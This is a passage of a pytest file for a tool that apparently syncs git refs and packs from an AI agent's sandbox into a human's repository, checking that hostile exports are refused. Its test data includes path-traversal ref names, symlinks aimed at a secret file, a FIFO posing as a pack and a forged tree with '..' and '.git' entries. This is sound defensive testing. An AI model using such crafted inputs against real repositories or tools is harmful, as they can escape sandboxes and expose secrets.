    assert said in message
    assert world.own_refs() == before
    assert world.agent_refs() == {}


@pytest.mark.parametrize(
    ("name", "said"),
    [
        (b"a..b", "'@', '@{' or '..'"),
        (b"-x", "a leading '/' or '-'"),
        (b"a b", "a control character, space"),
        (b"x.lock", "ending with '.lock'"),
        (b"caf\xe9", "bytes that are no UTF-8"),
    ],
)
def test_a_branch_cloister_does_not_take_stays_out_and_is_named(
    plain_world: World, name: bytes, said: str
) -> None:
    """Git may take it (the agent's own git made it); it does not come back, the other
    branches do, and the note names it in ASCII (the daemon's log line is text)."""
    world = plain_world
    before = world.own_refs()
    main = before["refs/heads/main"].encode()
    outcome = world.sync(
        _export_of(world, main + b" refs/agent/main\n" + main + b" refs/agent/" + name + b"\n")
    )
    assert world.agent_refs() == {"main": main.decode()}
    (note,) = [line for line in outcome.notes if "does not come back" in line]
    assert said in note
    assert note.isascii()
    assert world.own_refs() == before


def test_a_head_on_a_branch_that_does_not_come_back_is_no_head(plain_world: World) -> None:
    world = plain_world
    main = world.own_refs()["refs/heads/main"].encode()
    outcome = world.sync(_export_of(world, main + b" refs/agent/main\n", b"refs/heads/../../x\n"))
    assert outcome.head.branch is None
    assert outcome.fast_forwarded is None


def test_a_ref_to_an_object_nobody_sent_is_refused(plain_world: World) -> None:
    world = plain_world
    before = world.own_refs()
    message = world.sync_error(_export_of(world, f"{'ab' * 20} refs/agent/main\n".encode()))
    assert "cloister demo:" in message
    assert world.own_refs() == before
    assert world.agent_refs() == {}
    world.fsck()


@pytest.mark.parametrize("name", ["refs", "head", "pack"])
def test_links_in_the_output_are_not_followed(plain_world: World, name: str) -> None:
    world = plain_world
    secret = world.root / "secret"
    secret.write_text(f"{SECRET}\n", encoding="utf-8")
    main = world.human("rev-parse", "main")

    def write(out: Path) -> None:
        (out / "refs").write_bytes(f"{main} refs/agent/main\n".encode())
        (out / "head").write_bytes(b"refs/heads/main\n")
        (out / name).unlink(missing_ok=True)
        (out / name).symlink_to(secret)

    before = world.own_refs()
    message = world.sync_error(FakeExport(write))
    assert SECRET not in message
    assert world.own_refs() == before
    assert secret.read_text(encoding="utf-8") == f"{SECRET}\n"


def test_a_fifo_for_a_pack_is_refused(plain_world: World) -> None:
    world = plain_world
    main = world.human("rev-parse", "main")

    def write(out: Path) -> None:
        (out / "refs").write_bytes(f"{main} refs/agent/main\n".encode())
        (out / "head").write_bytes(b"refs/heads/main\n")
        os.mkfifo(out / "pack")

    assert "not a regular file" in world.sync_error(FakeExport(write))


@pytest.mark.parametrize("name", [b"..", b".git", b"a/b"])
def test_a_pack_with_a_hostile_tree_is_refused_by_index_pack(
    plain_world: World, name: bytes
) -> None:
    """What the export's fsck would refuse, the host's ``index-pack --strict`` refuses too."""
    world = plain_world
    scratch = world.root / "hostile.git"
    git("init", "-q", "--bare", str(scratch))
    blob = git("--git-dir", str(scratch), "hash-object", "-w", "--stdin", input=b"x\n")
    raw = b"100644 " + name + b"\0" + bytes.fromhex(blob)
    tree = git("--git-dir", str(scratch), "hash-object", "-t", "tree", "--literally", "-w",
               "--stdin", input=raw)  # fmt: skip
    commit = git("--git-dir", str(scratch), "commit-tree", tree, "-m", "hostile")
    pack = _pack_of(scratch, commit)

    def write(out: Path) -> None:
        (out / "refs").write_bytes(f"{commit} refs/agent/evil\n".encode())
        (out / "head").write_bytes(b"refs/heads/main\n")
        (out / "pack").write_bytes(pack)

    before = world.own_refs()
    packs = sorted((world.repo / ".git" / "objects" / "pack").iterdir())
    message = world.sync_error(FakeExport(write))
    assert "index-pack" in message
    assert world.own_refs() == before
    assert world.agent_refs() == {}
    assert not world.has_object(commit)
    # Nothing of it stays in the human's object store (no tmp_pack_*, no quarantine).
    assert sorted((world.repo / ".git" / "objects" / "pack").iterdir()) == packs
    assert not list((world.repo / ".git" / "objects").glob("cloister-incoming-*"))
    world.fsck()


def test_a_failed_export_says_why_and_leaves_no_scratch(plain_world: World) -> None:
    class Failing(FakeExport):
        def run(self, spec: ContainerSpec, *, timeout: float) -> Finished:
            return Finished(128, "one\ntwo\nthree\nfatal: the last words\n")

    message = plain_world.sync_error(Failing(lambda out: None))
    assert "exit 128" in message
    assert "fatal: the last words" in message
    assert "one" not in message.split(":", 1)[1]  # only the last lines
